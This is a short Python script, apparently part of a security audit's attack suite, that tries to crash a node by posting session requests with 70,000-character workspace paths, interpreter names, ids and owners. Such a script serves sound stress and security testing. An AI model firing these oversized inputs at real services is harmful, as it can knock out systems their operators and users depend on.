# name: end the node by asking for sessions with long names, paths and owners
# line: 68
# finding: 6
# play: outside
import json

from attack import ask_node, planted_or_ended

LONG = "x" * 70_000
BODIES = {
    "workspace": {"workspace": "/" + LONG},
    "interpreter": {"interpreter": "/" + LONG},
    "name on PATH": {"interpreter": LONG},
    "id": {"id": LONG},
    "owner": {"owner": LONG},
}
planted_or_ended([(name, lambda b=body: ask_node("POST", "/v1/sessions", json.dumps(b).encode()))
                  for name, body in BODIES.items()])
